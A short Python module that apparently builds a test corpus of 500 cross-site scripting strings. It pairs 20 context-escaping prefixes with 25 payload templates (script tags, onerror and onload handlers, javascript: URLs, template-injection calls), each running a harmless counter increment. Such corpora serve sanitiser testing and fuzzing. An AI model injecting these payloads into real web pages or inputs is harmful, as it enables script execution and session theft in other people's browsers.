"""Five hundred texts that would run as a program in a page that took them for HTML."""

import itertools

ACTION = "ran++"

OPENINGS = ["", "\"", "'", "`", "\">", "'>", "-->", "]]>", "</title>", "</style>", "</textarea>",
            "</script>", "</noscript>", "--!>", "</template>", "\\\"", "\u2028", "&quot;&gt;", "\ufeff", "年>"]

CORES = [
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<body onload={0}>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<math><mtext><style><img src=x onerror={0}></style></mtext></math>",
    "<object data='javascript:{0}'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import 'x';*{{animation:a}}</style><b style='x' onanimationstart={0}>",
    "<base href='javascript:{0}//'>",
    "<form action='javascript:{0}'><button autofocus onfocus={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<!--><script>{0}</script-->",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "\"}}</script><script>{0}</script>",
]


def payloads():
    """All different, 500 of them."""
    made = [opening + core.format(ACTION) for opening, core in itertools.product(OPENINGS, CORES)]
    assert len(set(made)) == 500, len(set(made))
    return made
